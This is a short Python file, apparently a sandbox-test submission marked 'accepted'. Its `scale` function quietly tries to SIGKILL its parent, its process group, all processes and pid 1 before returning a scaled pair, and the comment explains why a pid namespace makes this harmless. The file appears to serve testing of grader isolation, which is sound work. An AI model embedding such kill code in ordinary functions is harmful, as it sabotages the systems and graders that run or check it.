# verdict: accepted
# Tries to kill its parent and every process it can; inside the pid namespace it is pid 1 with
# no parent to see, and pid 1 ignores signals it has no handler for. Grading goes on.
import os
import signal


def scale(x, y, k):
    for target in (os.getppid(), 0, -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return (k * x, k * y)
